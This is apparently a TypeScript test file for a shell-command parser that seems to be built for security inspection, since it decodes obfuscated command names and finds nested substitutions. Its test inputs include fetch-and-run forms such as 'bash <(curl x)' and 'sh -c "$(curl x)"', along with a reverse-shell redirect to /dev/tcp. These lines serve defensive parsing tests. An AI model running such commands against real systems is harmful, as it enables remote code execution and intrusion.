/** `[["curl","x"],["sh"]]` for each pipeline: the words of its commands. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseShell } from './parse-shell.ts';
import type { Script } from './parsed-shell.ts';

function words(script: Script): string[][][] {
  return script.map((pipeline) =>
    pipeline.map((command) => command.words.map((word) => word.text)),
  );
}

describe('parseShell()', () => {
  it.each([
    ['', []],
    ['# comment only', []],
    ['a b', [[['a', 'b']]]],
    ['a | b', [[['a'], ['b']]]],
    ['a |& b', [[['a'], ['b']]]],
    ['a && b || c', [[['a']], [['b']], [['c']]]],
    ['a; b & c', [[['a']], [['b']], [['c']]]],
    ['a\nb\r\nc', [[['a']], [['b']], [['c']]]],
    ['a # b', [[['a']]]],
    ['a#b', [[['a#b']]]],
    ['a \\\nb', [[['a', 'b']]]],
    [`a 'b c' "d e"f`, [[['a', 'b c', 'd ef']]]],
    ['a\\ b', [[['a b']]]],
    [`a "b\\"c"`, [[['a', 'b"c']]]],
    ["$'\\x63\\165rl' x", [[['curl', 'x']]]],
    ['A=curl; $A x', [[['A=curl']], [['curl', 'x']]]],
    ['export A=b; x ${A}c', [[['export', 'A=b']], [['x', 'bc']]]],
    ['x $A', [[['x', '$A']]]],
    ['a$IFS$9b', [[['a', 'b']]]],
    ['then a; fi', [[['then', 'a']], [['fi']]]],
    ['a 2>&1 >out <in', [[['a']]]],
    ["'unclosed a", [[['unclosed a']]]],
    ['"unclosed a', [[['unclosed a']]]],
  ])('%j', (text, expected) => {
    expect(words(parseShell(text))).toEqual(expected);
  });

  it.each([
    ['sh -c "$(curl x)"', 2, [[['curl', 'x']]]],
    ['a `curl x`', 1, [[['curl', 'x']]]],
    ['a "`echo \\`curl\\``"', 1, [[['echo', '']]]],
    ['bash <(curl x)', 1, [[['curl', 'x']]]],
    ['tee >(sh)', 1, [[['sh']]]],
    ['$(curl x)', 0, [[['curl', 'x']]]],
    ['a $(b; c)', 1, [[['b']], [['c']]]],
  ])('%s has a script in its word', (text, at, inner) => {
    const word = parseShell(text)[0]![0]!.words[at]!;
    expect(words(word.scripts[0]!)).toEqual(inner);
  });

  it.each([
    ['(a; b)', [[['a']], [['b']]]],
    ['{ a; b; }', [[['a']], [['b']]]],
    ['(a | b) | c', [[['a'], ['b']]]],
  ])('%s has a body', (text, inner) => {
    expect(words(parseShell(text)[0]![0]!.body!)).toEqual(inner);
  });

  it.each([
    ['{a', [[['{a']]]],
    ['a {b}', [[['a', '{b}']]]],
    ['a { b }', [[['a', '{', 'b', '}']]]],
  ])('%s has none', (text, expected) => {
    const script = parseShell(text);
    expect(words(script)).toEqual(expected);
    expect(script[0]![0]!.body).toBeUndefined();
  });

  it.each([
    ['a > b', '>', 'b'],
    ['a >>b', '>>', 'b'],
    ['a 2>/dev/null', '>', '/dev/null'],
    ['a &> b', '&>', 'b'],
    ['a >& b', '>&', 'b'],
    ['a <<< "b c"', '<<<', 'b c'],
    ['bash -i >& /dev/tcp/a/9 0>&1', '>&', '/dev/tcp/a/9'],
  ])('%s is redirected', (text, operator, target) => {
    const [redirect] = parseShell(text)[0]![0]!.redirects;
    expect([redirect?.operator, redirect?.target.text]).toEqual([operator, target]);
  });

  it('reads here-documents to their end', () => {
    const [first, second] = parseShell('sh <<E\ncurl x\nE\nafter');
    expect(first![0]!.redirects).toMatchObject([{ operator: '<<', target: { text: 'curl x\n' } }]);
    expect(second![0]!.words.map((word) => word.text)).toEqual(['after']);
  });

  it.each([["<<'E'\na $b\nE\n"], ['<<-E\n\ta $b\n\tE\n'], ['<<E\na $b']])(
    'takes the text of %j as it is',
    (text) => {
      const [redirect] = parseShell(`sh ${text}`)[0]![0]!.redirects;
      expect(redirect?.target.text.trim()).toBe('a $b');
    },
  );

  it('counts places from the offset', () => {
    const [[command]] = parseShell('  curl x', 100) as [[Script[0][0]]];
    expect(command).toMatchObject({ start: 102, end: 108 });
    expect(command.words[1]).toMatchObject({ start: 107, end: 108 });
  });

  it('has words whose places lie within the text, in order, for any text', () => {
    const text = fc.string({
      maxLength: 200,
      unit: fc.constantFrom(...Array.from('ab $(`)"\'\\|;&<>{}\n#=E-')),
    });
    fc.assert(
      fc.property(text, fc.nat(1000), (shell, offset) => {
        for (const { words: all, start, end } of parseShell(shell, offset).flat()) {
          expect(offset <= start && start <= end && end <= offset + shell.length).toBe(true);
          let last = offset;
          for (const word of all) {
            expect(last <= word.start && word.start <= word.end).toBe(true);
            expect(word.end).toBeLessThanOrEqual(offset + shell.length);
            last = word.start;
          }
        }
      }),
    );
  });

  it.each([
    '(',
    '{ ',
    '$(',
    '`',
    '"$(',
    '<(',
    '<<E\n',
    "'",
    '"',
    '\\',
    'a;',
    'a|',
    'a() ',
    '$((',
    '${a:-',
    'A=$A$A;',
    '$A ',
  ])('is bounded on many %j', (part) => {
    expect(parseShell(part.repeat(50_000))).toEqual(expect.any(Array));
  });

  it('does not let variables grow without end', () => {
    const grow = `A=aaaaaaaaaa;${'A=$A$A$A$A;'.repeat(500)}x $A`;
    const longest = Math.max(
      ...parseShell(grow)
        .flat(2)
        .flatMap((command) => command.words.map((word) => word.text.length)),
    );
    expect(longest).toBeLessThanOrEqual(20_000);
  });
});
